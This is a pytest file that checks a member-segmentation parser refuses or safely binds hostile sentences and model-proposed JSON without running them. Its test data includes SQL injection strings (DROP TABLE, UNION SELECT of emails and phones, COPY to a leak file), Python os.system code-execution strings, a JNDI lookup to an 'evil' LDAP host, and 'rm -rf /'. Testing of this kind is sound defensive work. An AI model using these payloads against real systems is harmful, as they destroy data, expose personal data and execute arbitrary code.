"""Hostile sentences and model proposals: a valid definition or a clear refusal, never a database error,
never execution."""

from __future__ import annotations

import pytest

from memberinsight.segments import (
    SegmentDefinitionError,
    SegmentParseError,
    definition_from_model_text,
    load_vocabulary,
    parse_sentence,
    segment_members,
)

CANARY = "/tmp/memberinsight_segments_canary"

HOSTILE = [
    "members in London'; DROP TABLE members; --",
    "customers who spent over 200; DELETE FROM orders WHERE 1=1",
    "members in London\" OR \"1\"=\"1",
    "members whose city = 'London' OR 1=1 --",
    "SELECT * FROM members WHERE city = 'London'",
    "'; ATTACH DATABASE '/tmp/evil.db' AS evil; --",
    "members who bought Outdoor) UNION SELECT email, phone FROM members --",
    f"__import__('pathlib').Path('{CANARY}').touch()",
    f"members in Leeds {{__import__('os').system('touch {CANARY}')}}",
    "eval(compile('import os; os.system(\"touch " + CANARY + "\")', 'x', 'exec'))",
    "customers with churn risk high'); COPY members TO '/tmp/leak.csv'; --",
    "members who spent more than 1e308 or 9999999999999999999999",
    "members in cluster 99999999999999999999",
    "${jndi:ldap://evil/a} members in Paris",
    "members in London /* comment */ and Leeds",
    "\\x00 members \\u0000 in Dublin",
]


@pytest.fixture(scope="module")
def counts(built_workspace):
    def read():
        with built_workspace.analytics(read_only=True) as con:
            return {t: con.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
                    for t in ("members", "orders", "products", "reviews")}
    return read


@pytest.mark.parametrize("sentence", HOSTILE)
def test_hostile_sentences_give_a_definition_or_a_refusal(built_workspace, counts, sentence):
    import os

    before = counts()
    vocab = load_vocabulary(built_workspace)
    try:
        result = parse_sentence(sentence, vocab)
    except SegmentParseError as exc:  # a clear refusal is fine
        assert str(exc)
        return
    if result.definition is None:
        assert result.not_understood  # says what it did not understand
    else:
        ids = segment_members(built_workspace, result.definition)  # must not raise
        assert isinstance(ids, list)
        for cond in result.definition.conditions():
            for text in (cond.value if isinstance(cond.value, tuple) else (cond.value,)):
                # values come only from the vocabulary or are numbers/dates: no SQL leaks into them
                assert not isinstance(text, str) or not any(w in text.upper() for w in ("DROP", "SELECT", ";"))
        assert result.not_understood  # the hostile part is reported, not silently dropped
    assert counts() == before
    assert not os.path.exists(CANARY)


@pytest.mark.parametrize("text", [
    '{"where": {"all": [{"field": "city; DROP TABLE members", "op": "=", "value": "x"}]}}',
    '{"where": {"all": [{"field": "city", "op": "= \'x\' OR 1=1 --", "value": "x"}]}}',
    '{"where": {"all": [{"field": "spend", "op": ">", "value": "0) OR (1=1"}]}}',
    '{"where": {"all": [{"field": "city", "op": "=", "value": "x", "sql": "DROP TABLE members"}]}}',
    "import os; os.system('rm -rf /')",
    '{"where": {"all": [{"field": "orders", "op": ">=", "value": {"__class__": "os.system"}}]}}',
])
def test_model_proposals_are_validated_not_executed(text):
    with pytest.raises(SegmentDefinitionError):
        definition_from_model_text(text)


def test_valid_model_proposal_with_hostile_value_is_bound(built_workspace, counts):
    before = counts()
    defn = definition_from_model_text(
        'Sure! {"where": {"all": [{"field": "city", "op": "=", "value": "London\'); DROP TABLE members; --"}]}}')
    assert segment_members(built_workspace, defn) == []
    assert counts() == before


def test_proposer_is_only_consulted_for_gaps_and_validated(demo_vocab):
    calls = []

    def proposer(prompt):
        calls.append(prompt)
        return '{"where": {"all": [{"field": "city", "op": "=", "value": "London"}, ' \
               '{"field": "spend", "op": ">", "value": 50}]}}'

    full = parse_sentence("members in London", demo_vocab, proposer=proposer)
    assert full.source == "rules" and not calls
    gap = parse_sentence("members in London who love hiking", demo_vocab, proposer=proposer)
    assert gap.source == "model" and len(calls) == 1 and "love hiking" in calls[0]
    assert any("review it" in n for n in gap.notes)
    bad = parse_sentence("members in London who love hiking", demo_vocab, proposer=lambda p: "DROP TABLE members")
    assert bad.source == "rules" and any("rejected" in n for n in bad.notes)
